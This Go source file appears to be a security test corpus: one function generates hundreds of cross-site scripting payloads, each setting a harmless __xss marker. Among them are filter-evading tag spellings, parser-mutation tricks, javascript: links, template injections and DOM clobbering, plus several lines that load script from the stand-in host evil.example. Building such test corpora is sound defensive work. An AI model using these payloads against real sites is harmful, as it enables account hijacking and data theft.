package main

import (
	"fmt"
	"strings"
)

// attacks is what somebody writes into a field in the hope that a page runs it
// (T-50): one text for each way that this has worked somewhere. Each would set
// window.__xss, or take the name of something that the page's own script uses.
func attacks() []string {
	const sink = "__xss=1"
	var list []string
	add := func(texts ...string) { list = append(list, texts...) }

	// Elements that run something, in each place that they can break out of.
	elements := []string{
		`<script>` + sink + `</script>`,
		`<img src=x onerror=` + sink + `>`,
		`<svg onload=` + sink + `>`,
		`<details open ontoggle=` + sink + `>`,
		`<input autofocus onfocus=` + sink + `>`,
		`<iframe srcdoc="<script>top.` + sink + `</script>">`,
		`<a href="javascript:` + sink + `">a</a>`,
	}
	for _, before := range []string{``, `">`, `'>`, "`>", `-->`, `]]>`, `</p>`, `</textarea>`, `</title>`, `</style>`, `</script>`, `</noscript>`, `</select>`, `</option></select>`, `</template>`, `</li></ul>`, `</span></a>`, `<!--`} {
		for _, e := range elements {
			add(before + e)
		}
	}
	// Spellings that filters overlook.
	for _, s := range []string{
		`<ScRiPt>%s</sCrIpT>`, `<script >%s</script >`, "<script\n>%s</script\n>", `<script/x>%s</script>`, `<<script>%s//<</script>`, `<script>%s`, `<scr<script>ipt>%s</scr</script>ipt>`,
		`<script type=module>%s</script>`, `<script src=data:text/javascript,%s></script>`, `<script src=//evil.example/x.js>`, `<script src="https:evil.example">%s</script>`,
		`<IMG SRC=x OnErRoR=%s>`, `<img/src=x/onerror=%s>`, "<img src=x onerror\n=\n%s>", "<img src=x\x0conerror=%s>", `<img src=x onerror="%s"`, `<img src="x" onerror='%s'//`, "<img src=`x`onerror=%s>", `<img src=x:x onerror=%s>`, `<image src=x onerror=%s>`,
		`<img """><img src=x onerror=%s>">`, `<img src onerror=%s>`, `<img srcset=x onerror=%s>`, `<video src=x onerror=%s>`, `<video><source onerror=%s>`, `<audio src onloadstart=%s>`, `<body onload=%s>`, `<body onpageshow=%s>`,
		`<marquee onstart=%s>`, `<select autofocus onfocus=%s>`, `<textarea autofocus onfocus=%s>`, `<button autofocus onfocus=%s>`, `<div onpointerenter=%s>`, `<div contenteditable onfocus=%s autofocus>`, `<x onclick=%s>`, `<x tabindex=1 onfocus=%s autofocus>`,
		`<style onload=%s></style>`, `<link rel=stylesheet href=x onerror=%s>`, `<object data=x onerror=%s>`, `<object data=javascript:%s>`, `<embed src=javascript:%s>`, `<iframe src=javascript:%s>`, `<iframe onload=%s>`, `<frameset onload=%s>`, `<form action=javascript:%s><button>`, `<button formaction=javascript:%s>`, `<input type=image src=x onerror=%s>`, `<isindex action=javascript:%s type=image>`,
		`<meta http-equiv=refresh content="0;javascript:%s">`, `<base href=javascript:%s//>`, `<table background=javascript:%s>`, `<div popover id=xp onbeforetoggle=%s>`, `<dialog open oncancel=%s>`, `<p style=animation:x onanimationstart=%s>`, `<xss onscrollend=%s style=overflow:auto>`,
	} {
		add(fmt.Sprintf(s, sink))
	}
	// Out of an attribute's value.
	for _, q := range []string{`"`, `'`, "`", ``} {
		for _, s := range []string{` onfocus=%s autofocus x=`, ` onmouseover=%s x=`, ` style=animation:x onanimationstart=%s x=`, `/onload=%s/`, ` formaction=javascript:%s x=`, ` src=x onerror=%s x=`, ` accesskey=x onclick=%s x=`, ` srcdoc=<script>%s</script> x=`} {
			add(`x` + q + fmt.Sprintf(s, sink) + q)
		}
	}
	// Drawings and formulas, and what parsers make of them the second time.
	for _, s := range []string{
		`<svg><script>%s</script></svg>`, `<svg><script href=data:,%s /></svg>`, `<svg><a xlink:href=javascript:%s><text y=9>a</text></a></svg>`, `<svg><animate onbegin=%s attributeName=x dur=1s>`, `<svg><set onbegin=%s attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=%s>#x">`,
		`<svg><foreignObject><img src=x onerror=%s></foreignObject></svg>`, `<svg><style><img src=x onerror=%s></style></svg>`, `<svg><title><img src=x onerror=%s></title></svg>`, `<svg><desc><img src=x onerror=%s>`, `<svg></p><style><a id="</style><img src=x onerror=%s>">`,
		`<math><mi xlink:href=javascript:%s>a</mi></math>`, `<math href=javascript:%s>a</math>`, `<math><mtext><img src=x onerror=%s></mtext></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=%s>`, `<math><annotation-xml encoding=text/html><img src=x onerror=%s>`, `<math><maction actiontype=statusline xlink:href=javascript:%s>a`,
		`<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%s>`, `<noscript><p title="</noscript><img src=x onerror=%s>">`, `<listing>&lt;img src=x onerror=%s&gt;</listing>`, `<xmp><img src=x onerror=%s></xmp>`, `<plaintext><img src=x onerror=%s>`, `<template><img src=x onerror=%s></template>`,
		`<div><template shadowrootmode=open><img src=x onerror=%s></template></div>`, `<select><style><img src=x onerror=%s></style>`, `<table><caption><select><img src=x onerror=%s>`, `<p title="<img src=x onerror=%s>">`, `<![CDATA[<img src=x onerror=%s>]]>`, `<!-- --!><img src=x onerror=%s>`, `<?xml ?><img src=x onerror=%s>`, `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=%s>">]>&y;`,
	} {
		add(fmt.Sprintf(s, sink))
	}
	// Links, as HTML and as Markdown.
	for _, u := range []string{`javascript:%s`, `JaVaScRiPt:%s`, "java\tscript:%s", "java\nscript:%s", ` javascript:%s`, "\x01javascript:%s", `javascript&colon;%s`, `javascript&#58;%s`, `&#106;avascript:%s`, `javascript&Tab;:%s`, `javascript://%%0a%s`, `javascript:void(%s)`, `vbscript:%s`, `data:text/html,<script>%s</script>`, `data:image/svg+xml,<svg onload=%s>`, `view-source:javascript:%s`, `blob:javascript:%s`, `filesystem:javascript:%s`, `//evil.example/%s`, `\\evil.example\%s`} {
		u = fmt.Sprintf(u, sink)
		add("["+"a]("+u+")", "[a](<"+u+">)", "<"+u+">", "!["+"a]("+u+")")
	}
	add(
		"[a][b]\n\n[b]: javascript:"+sink,
		`[a](https://e.example "x" onmouseover=`+sink+`)`,
		`[a](https://e.example/"onmouseover="`+sink+`)`,
		`![a](x"onerror="`+sink+`)`,
		`![a"onerror="`+sink+`](x)`,
		`[<img src=x onerror=`+sink+`>](https://e.example)`,
		`https://e.example/"><img src=x onerror=`+sink+`>`,
		`https://e.example/'onmouseover='`+sink,
		"```\"><script>"+sink+"</script>\nx\n```",
		"```html onload="+sink+"\n<script>"+sink+"</script>\n```",
		"`<script>"+sink+"</script>`",
		"    <script>"+sink+"</script>",
		"> <img src=x onerror="+sink+">",
		"| <img src=x onerror="+sink+"> | b |\n|---|---|\n| <script>"+sink+"</script> | d |",
		"# <img src=x onerror="+sink+">",
		"- [ ] <img src=x onerror="+sink+">",
		"<div>\n\n**a** <img src=x onerror="+sink+">\n\n</div>",
		"\\<img src=x onerror="+sink+"\\>",
		"**<svg onload="+sink+">**",
		"@<img src=x onerror="+sink+">",
		"mailto:a@e.example\"onclick="+sink,
	)
	// Entities: what is text must not become markup when it is read again.
	for _, e := range []string{`&lt;img src=x onerror=%s&gt;`, `&#60;img src=x onerror=%s&#62;`, `&#x3c;img src=x onerror=%s&#x3e;`, `&lt;img src=x onerror=%s&gt`, `&amp;lt;img src=x onerror=%s&amp;gt;`, `\u003cimg src=x onerror=%s\u003e`, `\x3cimg src=x onerror=%s\x3e`, `%%3Cimg src=x onerror=%s%%3E`, `+ADw-img src=x onerror=%s+AD4-`, `&NewLine;&lt;script&gt;%s&lt;/script&gt;`} {
		add(fmt.Sprintf(e, sink))
	}
	// Looks: styles that reach out or draw over the page.
	add(`<style>@import"//evil.example/x.css"</style>`, `<style>*{display:none}</style>`, `<link rel=stylesheet href=data:text/css,*{display:none}>`, `<div style=position:fixed;inset:0;z-index:99>x</div>`, `<div style="background:url(javascript:__xss=1)">`,
		`<div style=width:expression(__xss=1)>`, `<div style="behavior:url(x.htc)">`, `<font color=x style=-moz-binding:url(x)>`, `<p class="toast">x</p>`, `<div class=mask>x</div>`, `<div class=band>TLP:CLEAR</div>`, `<b class="chip tlp clear">TLP:CLEAR</b>`)
	// Names that the page's own script asks for.
	for _, name := range []string{"body", "cookie", "getElementById", "querySelector", "ui-toasts", "ui-polite", "ui-banner", "ui-commands", "ui-ask", "ui-mask", "main", "compose", "idempotency_key", "__proto__", "constructor", "xssclobber"} {
		add(`<a id=` + name + ` href=//evil.example>x</a>`)
	}
	add(`<form name=body><input name=firstChild>`, `<img name=getElementById>`, `<form id=xssclobber><input name=action><input name=submit>`, `<div data-live=nav data-post>x</div>`, `<div data-stream=//evil.example>x</div>`, `<button data-go=i data-open=ui-mask>x</button>`, `<form data-resend data-draft-url=//evil.example>x</form>`, `<input form=compose name=tlp value=CLEAR>`)
	// The languages of templates and of frameworks.
	for _, t := range []string{"{{constructor.constructor('%s')()}}", "{{%s}}", "${%s}", "<%%= %s %%>", "#{%s}", "{%% %s %%}", "[[%s]]", "{{{%s}}}", "@{%s}", "{{=<%% %%>=}}<%%%s%%>", "<x-data x-init=%s>", "<p x-init=%s>", "<p hx-on:load=%s>", "<p hx-get=//evil.example hx-trigger=load>%s", "<p v-html=%s>", "<p ng-app ng-init=%s>", "<p @click=%s>", "<p :onclick=%s>", "{{.%s}}", `{{template "%s"}}`} {
		add(fmt.Sprintf(t, sink))
	}
	// Characters that are not what they look like.
	add("\u202e>1=ssx__=rorreno x=crs gmi<", "\u2066<img src=x onerror=__xss=1>\u2069", "\u200f<script>__xss=1</script>", "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e", "\u3008img src=x onerror=__xss=1\u3009", "\ufeff<script>__xss=1</script>", "<scr\u00adipt>__xss=1</scr\u00adipt>",
		"<scr\u200bipt>__xss=1</scr\u200bipt>", "<\u0000script>__xss=1</script>", "<img src=x onerror=\u2028__xss=1>", "<ſcript>__xss=1</ſcript>", "<ımg src=x onerror=__xss=1>", "\xc0\xbcscript\xc0\xbe__xss=1", "\xed\xa0\xbd<script>__xss=1</script>", "\x1b]8;;javascript:__xss=1\x07a\x1b]8;;\x07", "Z\u0338\u0321\u0353a\u0334\u031bl\u0337g\u0335o", "\U0001f4a9<script>__xss=1</script>", strings.Repeat("<b>", 60)+"x", strings.Repeat("&", 60), strings.Repeat(">", 60)+"x", strings.Repeat("[", 60)+"x", strings.Repeat("*a_", 60))
	return list
}
